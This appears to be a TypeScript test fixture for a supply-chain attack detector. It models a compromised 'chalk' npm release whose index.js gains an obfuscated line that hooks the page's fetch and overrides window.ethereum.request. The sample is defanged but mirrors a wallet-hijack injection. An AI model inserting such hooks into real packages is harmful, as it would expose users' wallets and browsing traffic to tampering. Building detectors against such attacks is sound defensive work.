import { manifest } from '../pack-release.ts'
import type { Hijack } from './hijack.ts'

import { obfuscate } from './hijack.ts'

const code = 'export const styles = { red: [31, 39] }\nexport default function chalk(text) {\n  return `\\u001B[31m${text}\\u001B[39m`\n}\n'

const hook = obfuscate(['ethereum', 'request', 'eth_sendTransaction'])

/** September 2025: one obfuscated line below the code of a tiny utility, which put itself in front of a page’s wallet and `fetch`. */
export const chalk: Hijack = {
  name: 'chalk',
  ecosystem: 'npm',
  from: '5.6.0',
  to: '5.6.1',
  before: { 'package.json': manifest(), 'index.js': code },
  after: {
    'package.json': manifest(),
    'index.js': `${code}${hook}if(typeof window!=='undefined'&&window.ethereum){const _0x9=window.fetch;window.fetch=async function(..._0xa){return _0x9(..._0xa);};window.ethereum.request=async()=>{};}\n`,
  },
  tells: /takes over functions of the page/,
}
